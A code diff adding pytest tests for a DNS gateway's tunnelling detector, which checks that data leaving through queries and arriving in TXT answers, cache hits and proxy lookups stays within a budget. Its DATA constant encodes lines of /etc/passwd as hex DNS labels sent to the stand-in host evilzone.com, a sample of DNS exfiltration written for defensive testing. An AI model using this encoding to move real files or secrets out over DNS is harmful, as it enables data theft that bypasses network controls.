@@ -3,16 +3,19 @@
 from typing import Any
 
 import pytest
-from dnslib import RCODE
+from dnslib import QTYPE, RCODE, RR, TXT
 
 from gateway.decision import Reason
+from gateway.dns.cache import Key
+from gateway.dns.forwarder import ResolutionError
 from gateway.dns.leakage import Leakage, client_key
-from gateway.dns.resolver import Resolver
+from gateway.dns.resolver import LeakError, Resolver
 from gateway.dns.settings import Release, Tunnelling
 from gateway.tunnelling.structure import Controls
 from gateway.tunnelling.window import Limit
+from gateway.tunnelling.zones import PRIVATE, STAYING
 from tests.gateway.dns.support import BATCH, WEB, Clock, a_judge, a_policy, addresses, ask, client, ede, parse
-from tests.peers.dns_upstream import Upstream, upstream, zone
+from tests.peers.dns_upstream import Message, Upstream, upstream, zone
 
 DATA = "726f6f743a783a303a303a726f6f743a.2f726f6f743a2f62696e2f626173680a.6461656d6f6e3a783a313a313a646165"
 DENY = Tunnelling("deny")
@@ -21,6 +24,22 @@ DENY = Tunnelling("deny")
 def answering(name: str = "www.evilzone.com") -> Any:
     """Return an upstream's data: one name."""
     return zone({name: ["93.184.215.14"]})
+
+
+FILES = [f"{number}.files.evilzone.com" for number in range(30)]
+
+
+def files(query: Message, _: str) -> Message:
+    """Answer with 250 octets of text, other ones for each name."""
+    reply = query.reply()
+    text = str(query.q.qname).lower().ljust(250, "x")
+    reply.add_answer(RR(query.q.qname, QTYPE.TXT, rdata=TXT([text]), ttl=300))
+    return reply
+
+
+def texts(data: object) -> str:
+    """Return the text in an answer."""
+    return "".join(record.rdata.data[0].decode() for record in parse(data).rr)
 
 
 def asked(up: Upstream) -> list[str]:
@@ -125,6 +144,27 @@ async def test_names_without_a_zone_stay_here() -> None:
         await resolver.close()
 
 
+@pytest.mark.parametrize("top", sorted(PRIVATE | {"home.arpa"}))
+async def test_private_names_that_leave_are_accounted_for(top: str) -> None:
+    """A name under a private top-level domain either stays here, or is bounded like any other."""
+    async with upstream(answering()) as up:
+        resolver = Resolver(a_judge(up.endpoint, tunnelling=DENY))
+        await resolver.answer(WEB, ask(f"www.site.{top}"))
+        assert bool(asked(up)) is (top not in STAYING)
+        await resolver.answer(WEB, ask(f"{DATA}.site.{top}", "TXT"))
+        assert asked(up) == ([] if top in STAYING else [f"www.site.{top}"])
+        await resolver.close()
+
+
+async def test_the_root_exists() -> None:
+    """A validator gets the keys of the root: it is no name without a top-level domain."""
+    async with upstream(answering()) as up:
+        resolver = Resolver(a_judge(up.endpoint, tunnelling=DENY))
+        await resolver.answer(WEB, ask(".", "DNSKEY"))
+        assert asked(up) == [""]
+        await resolver.close()
+
+
 async def test_what_is_cached_costs_nothing() -> None:
     """Queries that are answered from the cache never come to the detector."""
     async with upstream(answering()) as up:
@@ -166,6 +206,62 @@ async def test_a_new_generation_opens_no_zone() -> None:
         judge.policy = a_policy()
         judge.settings = judge.settings._replace(tunnelling=Tunnelling("deny", exempt=(".evilzone.com",)))
         assert addresses(await resolver.answer(WEB, ask("www.evilzone.com"))) == ["93.184.215.14"]
+        await resolver.close()
+
+
+async def test_an_answer_that_was_denied_cannot_be_had_from_the_cache() -> None:
+    """A download ends at its budget for good: not even what is in the cache by then is given to that client."""
+    async with upstream(files) as up:
+        resolver = Resolver(a_judge(up.endpoint, tunnelling=DENY))
+        first, again = [[texts(await resolver.answer(WEB, ask(name, "TXT"))) for name in FILES] for _ in range(2)]
+        assert 0 < len("".join(first)) <= 4096
+        assert not any(again)
+        assert all([texts(await resolver.answer(BATCH, ask(name, "TXT"))) for name in FILES[:8]])
+        await resolver.close()
+
+
+async def test_an_answer_nobody_waited_for_is_counted_when_it_is_given() -> None:
+    """An answer that came when its client had gone, or was renewed early, counts when it is taken from the cache."""
+    async with upstream(files) as up:
+        resolver = Resolver(a_judge(up.endpoint, tunnelling=DENY))
+        got = ""
+        for name in FILES:
+            await resolver._forwarder.fetch(Key(name, QTYPE.TXT, dnssec_ok=False, checking_disabled=False))
+            for stream in (True, False, False):
+                reply = resolver.answer_now(WEB, ask(name, "TXT"), stream=stream)
+                assert isinstance(reply, bytes)
+            got += texts(reply)
+        assert 3500 < len(got) <= 4096
+        await resolver.close()
+
+
+async def test_names_that_the_proxy_looks_up_count_too() -> None:
+    """The host of a CONNECT tells its zone as much as a query does, and both have one account."""
+    async with upstream(answering()) as up:
+        judge = a_judge(up.endpoint, tunnelling=DENY)
+        resolver = Resolver(judge)
+        found = await resolver.lookup("www.evilzone.com", client(WEB))
+        assert [str(address) for address in found.addresses] == ["93.184.215.14"]
+        with pytest.raises(LeakError) as caught:
+            await resolver.lookup(f"{DATA}.evilzone.com", client(WEB))
+        assert caught.value.reason is Reason.DNS_TUNNEL
+        with pytest.raises(LeakError):
+            await resolver.lookup("www.evilzone.com", client(WEB))
+        assert parse(await resolver.answer(WEB, ask("www.evilzone.com"))).header.rcode == RCODE.NXDOMAIN
+        assert (await resolver.lookup("www.evilzone.com", client(BATCH))).addresses
+        with pytest.raises(ResolutionError, match="does not exist"):
+            await resolver.lookup("host.contoso", client(BATCH))
+        assert set(asked(up)) == {"www.evilzone.com"}
+        await resolver.close()
+
+
+async def test_the_proxy_in_report_mode() -> None:
+    """A look-up that would be denied is recorded, and goes on."""
+    async with upstream(answering(f"{DATA}.evilzone.com")) as up:
+        judge = a_judge(up.endpoint, tunnelling=Tunnelling("report"))
+        resolver = Resolver(judge)
+        assert (await resolver.lookup(f"{DATA}.evilzone.com", client(WEB), families=(4,))).addresses
+        assert [decision.enforced for _, decision in judge.records] == [False]
         await resolver.close()
 
 
